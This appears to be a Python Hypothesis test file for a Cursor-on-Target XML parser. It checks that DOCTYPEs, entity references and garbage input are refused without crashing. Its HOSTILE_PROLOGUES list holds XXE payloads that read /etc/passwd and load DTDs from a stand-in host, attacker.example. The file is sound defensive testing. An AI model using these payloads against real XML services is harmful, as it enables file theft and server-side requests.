"""Accepting what TAK Server accepts (NaN, no how, any type) leaves hostile XML refused."""

from __future__ import annotations

import contextlib

from hypothesis import given, settings
from hypothesis import strategies as st

from kyodo.cot import CotError, XmlEventReader, parse_event, serialise_event
from kyodo.cot.event import Event

from tests.cot.samples import events

# Declarations an attacker would put before the event, each with an entity the event uses.
HOSTILE_PROLOGUES = [
    b'<!DOCTYPE event [<!ENTITY x "lol">]>',
    b'<!DOCTYPE event [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE event [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
    b'<!DOCTYPE event SYSTEM "http://attacker.example/cot.dtd">',
    b'<!DOCTYPE event PUBLIC "-//A//DTD A//EN" "http://attacker.example/a.dtd">',
    b"<!DOCTYPE event>",
]


def _with_entity_reference(data: bytes, reference: bytes = b"&x;") -> bytes:
    """The event with `reference` as the first thing in its detail (or in a new one)."""
    if b"<detail>" in data:
        return data.replace(b"<detail>", b"<detail>" + reference, 1)
    return data.replace(b"<detail/>", b"<detail>" + reference + b"</detail>", 1)


@settings(max_examples=150)
@given(
    events(),
    st.sampled_from(HOSTILE_PROLOGUES),
    st.sampled_from([b"", b'<?xml version="1.0" encoding="UTF-8"?>\n']),
)
def test_a_dtd_before_any_valid_event_is_refused(
    event: Event, prologue: bytes, declaration: bytes
) -> None:
    data = declaration + prologue + _with_entity_reference(serialise_event(event))
    try:
        parse_event(data)
    except CotError as exc:
        assert "XML refused" in exc.message
    else:  # pragma: no cover - the assertion is the test
        raise AssertionError("a DOCTYPE was accepted")


@settings(max_examples=150)
@given(events(), st.sampled_from([b"&x;", b"&lol9;", b"&#0;", b"&#xD800;"]))
def test_an_undeclared_entity_or_bad_reference_is_malformed(event: Event, reference: bytes) -> None:
    data = _with_entity_reference(serialise_event(event), reference)
    try:
        parse_event(data)
    except CotError as exc:
        assert "malformed" in exc.message
    else:  # pragma: no cover
        raise AssertionError("an undeclared entity was accepted")


@settings(max_examples=300)
@given(st.binary(max_size=600))
def test_arbitrary_bytes_never_crash_the_parser(data: bytes) -> None:
    with contextlib.suppress(CotError):  # anything else (or a crash) fails the test
        parse_event(data)


EVENT_PARTS = st.sampled_from(
    [
        b"<event",
        b' version="2.0" uid="u" type="overhead_marker"',
        b' time="2024-01-01T00:00:00Z" start="2024-01-01T00:00:00Z" stale="2024-01-01T00:01:00Z"',
        b">",
        b'<point lat="0" lon="0" hae="NaN" ce="nan" le="9999999"/>',
        b"<detail>",
        b"</detail>",
        b"</event>",
        b"<![CDATA[</event>]]>",
        b"<!-- <event -->",
        b'<!DOCTYPE event [<!ENTITY x "y">]>',
        b"&x;",
        b"\x00",
        b"\xff\xfe",
        b'<?xml version="1.0" encoding="UTF-16"?>',
    ]
)


@settings(max_examples=300)
@given(st.lists(EVENT_PARTS | st.binary(max_size=20), max_size=40), st.integers(1, 64))
def test_a_stream_of_pieces_and_garbage_never_crashes_the_reader(
    pieces: list[bytes], chunk: int
) -> None:
    data = b"".join(pieces)
    reader = XmlEventReader()
    for at in range(0, len(data), chunk):
        batch = reader.feed(data[at : at + chunk])
        for refused in batch.refusals:
            # What goes to the log: a reason and a size, never the bytes.
            where = f" at byte {refused.at}" if refused.at is not None else ""
            assert str(refused) == f"{refused.reason} ({refused.size} bytes{where})"
        for event in batch.items:
            assert event.source is not None
